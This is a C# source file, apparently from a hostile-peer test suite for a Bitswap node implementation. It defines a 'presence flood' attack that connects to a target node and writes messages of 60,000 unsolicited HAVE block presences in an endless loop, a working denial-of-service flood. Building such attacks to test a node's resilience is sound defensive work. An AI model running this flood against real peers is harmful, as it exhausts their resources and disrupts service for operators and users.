using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>Says of blocks that nobody asked for that it has them.</summary>
internal sealed class PresenceFlood : Attack
{
    public override string Name => "presence flood";

    public override string Summary => "messages of 60000 HAVEs that nobody asked for, as fast as they are taken";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        RandomFrame frame = new(60_000, cids => new BitswapMessage { Presences = [.. cids.Select(cid => new BlockPresence(cid, PresenceType.Have))] });
        await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken);
        await using IByteStream stream = await peer.OpenAsync(cancellationToken);
        while (true)
        {
            await stream.WriteAsync(frame.Next(), cancellationToken);
        }
    }
}
